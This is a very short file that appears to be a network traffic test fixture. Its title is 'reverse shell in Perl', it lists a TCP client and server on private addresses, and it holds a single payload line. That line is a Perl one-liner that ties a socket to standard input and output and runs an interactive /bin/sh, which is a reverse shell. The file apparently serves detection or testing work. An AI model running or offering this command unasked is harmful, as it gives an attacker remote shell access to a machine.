# reverse shell in Perl.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:6000

>>>
perl -e 'use Socket;socket(S,2,1,6);connect(S,$x);open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'\n
